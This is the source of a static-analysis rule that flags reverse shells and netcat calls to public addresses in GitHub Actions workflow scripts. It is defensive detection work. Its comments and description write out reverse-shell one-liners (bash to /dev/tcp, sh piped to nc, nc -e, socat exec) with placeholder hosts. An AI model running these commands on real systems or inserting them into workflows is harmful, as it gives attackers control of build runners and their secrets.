import type { Rule } from '../../../src/model/rule.js';
import { get } from '../../../src/parsers/data/tree.js';
import { GHA_STANDARDS, sourceLines, stepHosts, steps } from './workflow.js';

/** An interactive shell (`sh -i`, `bash -i`, `/bin/sh -i`). */
const INTERACTIVE_SHELL = String.raw`(?:\/(?:usr\/)?bin\/)?(?:ba|z|da)?sh\s+-i\b`;
const NETCAT = String.raw`\b(?:nc|ncat|netcat)\b`;

/** Forms of a reverse shell, each a sure sign: nothing legitimate in CI has this shape. */
const PATTERNS: readonly { re: RegExp; what: string }[] = [
  // bash -i >& /dev/tcp/host/port 0>&1
  { re: new RegExp(String.raw`${INTERACTIVE_SHELL}[^\n]*\/dev\/(?:tcp|udp)\/`), what: 'an interactive shell redirected to a /dev/tcp socket' },
  // cat /tmp/f | /bin/sh -i 2>&1 | nc host port > /tmp/f
  { re: new RegExp(String.raw`${INTERACTIVE_SHELL}[^\n]*\|\s*(?:nc|ncat|netcat)\s`), what: 'an interactive shell piped to netcat' },
  // nc -e /bin/sh host port, ncat --exec bash, nc -c sh
  { re: new RegExp(String.raw`${NETCAT}[^\n|;&]*\s(?:-e|-c|--exec|--sh-exec)\s+["']?(?:\/(?:usr\/)?bin\/)?(?:ba|z|da)?sh\b`), what: 'netcat executing a shell for the remote end' },
  // socat exec:'bash -li',pty tcp:host:port
  { re: /\bsocat\b[^\n]*\bexec:["']?(?:\/(?:usr\/)?bin\/)?(?:ba|z|da)?sh\b[^\n]*\btcp(?:4|6)?:/i, what: 'socat connecting a shell to a TCP socket' },
  { re: /\bsocat\b[^\n]*\btcp(?:4|6)?:[^\n]*\bexec:["']?(?:\/(?:usr\/)?bin\/)?(?:ba|z|da)?sh\b/i, what: 'socat connecting a shell to a TCP socket' },
];

/** Netcat given a public IPv4 address (Checkov CKV_GHA_4): loopback, private and link-local addresses (service checks) do not count, nor `-z` port probes. */
const NETCAT_IP = new RegExp(String.raw`${NETCAT}((?:\s+-[\w-]+(?:\s+\d+)?)*)\s+((\d{1,3})\.(\d{1,3})\.\d{1,3}\.\d{1,3})\b`);

function publicIPv4(a: number, b: number): boolean {
  if (a === 0 || a === 10 || a === 127 || a >= 224) return false;
  if (a === 169 && b === 254) return false;
  if (a === 172 && b >= 16 && b <= 31) return false;
  if (a === 192 && b === 168) return false;
  if (a === 100 && b >= 64 && b <= 127) return false;
  return true;
}

/** `run:` scripts that open a shell for a remote host (a reverse shell) or hand netcat a public address. */
const rule: Rule = {
  meta: {
    id: 'iac/gha-reverse-shell',
    title: 'Workflow script opens a reverse shell or netcat connection to a remote host',
    description:
      'A `run:` script that connects an interactive shell to a network socket (`bash -i >& /dev/tcp/HOST/PORT 0>&1`, `/bin/sh -i 2>&1 | nc HOST PORT`, `nc -e /bin/sh`, `socat exec:bash tcp:…`) gives whoever listens on the other end a live shell on the runner, with the job\'s token, secrets and network access: it is the usual payload of a compromised workflow or a malicious pull request, never a build step. Netcat pointed at a public IPv4 address (`nc 203.0.113.7 4444`) is reported as well, since build jobs have no reason to talk raw TCP to a fixed outside host; loopback, private and link-local addresses (waiting for a service container) and `-z` port probes are not. Checked in workflow jobs and composite actions.',
    severity: 'high',
    kinds: ['github-workflow', 'github-action'],
    messages: {
      shell: 'This script runs {{what}} (`{{command}}`): a reverse shell hands the runner, its token and its secrets to the remote end. Remove it, and find out how it got here.',
      netcat: 'This script points netcat at the public address {{address}} (`{{command}}`), the usual way a reverse shell or data exfiltration reaches out from a runner; remove it, or use a documented client for the service if the connection is legitimate.',
    },
    remediation:
      'Remove the command and review the change (and the account) that added it; rotate the secrets the job could read. Legitimate service checks use loopback or service-container names, and network calls to outside services use their own clients.',
    references: [
      'https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions',
      'https://attack.mitre.org/techniques/T1059/004/',
      'https://www.checkov.io/5.Policy%20Index/github_actions.html',
    ],
    standards: { ...GHA_STANDARDS, cwe: ['CWE-506'] },
    equivalents: { checkov: ['CKV_GHA_4'] },
    security: true,
    since: '0.1.0',
  },
  check(ctx) {
    const text = ctx.file.text;
    for (const { job } of stepHosts(ctx)) {
      for (const step of steps(job)) {
        const run = get(step, 'run');
        if (!run) continue;
        for (const l of sourceLines(text, run)) {
          const line = l.line;
          const hit = PATTERNS.map((p) => ({ p, m: p.re.exec(line) })).find((x) => x.m);
          if (hit?.m) {
            const start = l.start + hit.m.index;
            ctx.report({ messageId: 'shell', offsets: [start, l.start + line.length], data: { what: hit.p.what, command: line.trim().slice(0, 100) } });
            continue;
          }
          const nc = NETCAT_IP.exec(line);
          if (nc && !/(^|\s)-\w*z/.test(nc[1]) && publicIPv4(Number(nc[3]), Number(nc[4]))) {
            ctx.report({ messageId: 'netcat', offsets: [l.start + nc.index, l.start + nc.index + nc[0].length], data: { address: nc[2], command: line.trim().slice(0, 100) } });
          }
        }
      }
    }
  },
};
export default rule;
